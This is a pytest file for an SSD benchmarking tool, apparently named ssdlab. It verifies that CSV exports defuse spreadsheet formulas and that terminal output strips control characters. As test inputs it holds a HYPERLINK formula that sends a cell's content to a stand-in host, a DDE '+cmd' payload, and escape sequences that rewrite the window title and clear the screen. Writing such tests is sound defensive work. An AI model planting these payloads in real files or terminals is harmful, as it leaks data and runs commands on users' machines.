"""Text that leaves ssdlab for a spreadsheet or a terminal cannot act there: a CSV cell
starting with = + - @ is kept as text (a drive named `=HYPERLINK(...)` is not a formula),
a --testbed tag with a newline or a terminal escape is refused before anything runs, and
stored text printed in a table shows control characters as '?'."""

from __future__ import annotations

import csv
import io
import subprocess

import clirun
import loopdevs
import pytest
from loopdevs import loops  # noqa: F401 (fixture)

from ssdlab.cli.output import fmt
from ssdlab import store_export
from ssdlab.store import Store
from ssdlab.store_export import csv_text

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


@pytest.mark.parametrize("text, shown", [
    (FORMULA, "'" + FORMULA), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-1.5", "-1.5"), ("+3", "+3"), ("sim:tlc-256", "sim:tlc-256"),
    (42, 42),
])
def test_csv_cells_never_start_a_formula(text, shown):
    assert csv_text(text) == shown


def test_an_exported_run_with_a_formula_for_a_drive_name_stays_text(tmp_path):
    store = Store(tmp_path / "r.db")
    rid = store.create_run("fill", {})
    rd = store.add_drive(rid, 0, FORMULA, {"kind": "sim", "model": "m", "capacity": 1})
    store.set_metrics(rd, {"avg_mbps": -1.5, "note": "=1+1"})
    rows = list(csv.reader(io.StringIO(store_export.to_csv(store, rid))))
    assert {r[1] for r in rows[1:]} == {"'" + FORMULA}
    assert ["-1.5", "'=1+1"] == [r[7] for r in rows[1:]]


@pytest.mark.parametrize("tag", ["lab\nFAKE LINE", "a\x1b[2J\x1b[31mred", "x" * 201])
def test_a_testbed_tag_that_is_not_one_printable_line_is_refused(tmp_path, tag):
    db = tmp_path / "r.db"
    r = clirun.cli("run", "quick", "--drive", "sim:sn520-128", "--repeat", "1", "--testbed", tag, "--db", str(db))
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "\x1b" not in r.stderr, r.stderr
    assert "one line of at most 200" in r.stderr
    assert not db.exists()


def test_stored_text_printed_in_a_table_cannot_drive_the_terminal(tmp_path):
    db = tmp_path / "r.db"
    store = Store(db)
    # a store written by an older version, or by hand
    store.db.execute("INSERT INTO runs (test, created, status, methodology_version, testbed, tool_version, args)"
                     " VALUES ('fill', 'now', 'complete', '1', ?, '0', '{}')", ("lab\x1b[2J\nFAKE",))
    r = subprocess.run([*clirun.COMMAND, "results", "list", "--db", str(db)], capture_output=True, text=True,
                       env=clirun.environ(), timeout=120)
    assert r.returncode == 0 and "\x1b" not in r.stdout and "lab?[2J?FAKE" in r.stdout
    assert fmt("a\x07b") == "a?b"


ESCAPES = "\x1b]0;owned\x07\x1b[2J"  # a window title, then a cleared screen


def hostile_store(db) -> tuple[int, int]:
    """Two runs whose drive names and identity (a results file imported, a drive host's
    agent, another user's store) carry terminal escapes: one complete, one failed."""
    store = Store(db)
    ident = {"kind": "block", "model": f"M{ESCAPES}\nFAKE LINE", "capacity": 1, "serial": f"S{ESCAPES}",
             "firmware": f"F{ESCAPES}", "extra": {}}
    ids = []
    for status in ("complete", "failed"):
        rid = store.create_run("fill", {})
        rd = store.add_drive(rid, 0, f"lab{ESCAPES}", ident)
        if status == "complete":
            store.set_metrics(rd, {"avg_mbps": 1.0})
        store.finish_drive(rd, status)
        store.finish_run(rid, status, None)
        ids.append(rid)
    return ids[0], ids[1]


@pytest.mark.parametrize("command", [["results", "show", "1"], ["results", "show", "2"], ["compare", "1", "2"]])
def test_stored_drive_names_and_identities_cannot_drive_the_terminal(tmp_path, command):
    """A run's drive and its identity are printed by `results show` (a table's title, or one
    line when it has no result) and `compare` (its columns and warnings): shown with control
    characters as '?', on stdout and on stderr."""
    db = tmp_path / "r.db"
    hostile_store(db)
    r = clirun.cli(*command, "--db", str(db))
    assert r.returncode == 0, r.stderr
    for out in (r.stdout, r.stderr):
        assert "\x1b" not in out and "\x07" not in out, out
    assert "lab?]0;owned??[2J" in r.stdout + r.stderr
    if command[:2] == ["results", "show"]:
        assert "M?]0;owned??[2J?FAKE LINE" in r.stdout and "\nFAKE LINE" not in r.stdout


@pytest.mark.skipif(loopdevs.REASON is not None, reason=str(loopdevs.REASON))
def test_a_devices_own_names_in_its_plan_cannot_drive_the_terminal(loops):
    """A device's plan names it by what the device or whoever set it up says: a loop
    device's backing file (a user may set one up through udisks, naming the file as they
    like), a drive's model and serial. `run --plan` prints them with control characters as
    '?', its full plan (--fio-jobs) and a review's plan too; --json escapes them as JSON does."""
    dev, _ = loops.make(loopdevs.SIZE, f"e{ESCAPES}.img")  # sparse: a review plans blocks of 16 MiB
    for extra in ([], ["--fio-jobs"]):
        r = clirun.cli("run", "fill", "--drive", dev, "--plan", *extra)
        assert r.returncode == 0, r.stderr
        assert "\x1b" not in r.stdout + r.stderr and "\x07" not in r.stdout + r.stderr, r.stdout
        assert "e?]0;owned??[2J.img" in r.stdout
    r = clirun.cli("review", "--drive", dev, "--plan")
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stdout + r.stderr and "e?]0;owned??[2J.img" in r.stdout, r.stdout


def test_an_error_or_warning_quoting_what_it_was_given_cannot_drive_the_terminal(tmp_path):
    """An error line may quote a device's words, a drive host's or a stored run's: each is
    printed with control characters as '?' (here, a profile name quoted back)."""
    r = clirun.cli("run", "fill", "--drive", f"sim:e{ESCAPES}", "--db", str(tmp_path / "r.db"))
    assert r.returncode == 2 and r.stderr.count("\n") == 1, r.stderr
    assert "\x1b" not in r.stderr and "\x07" not in r.stderr and "'e?]0;owned??[2J'" in r.stderr, r.stderr
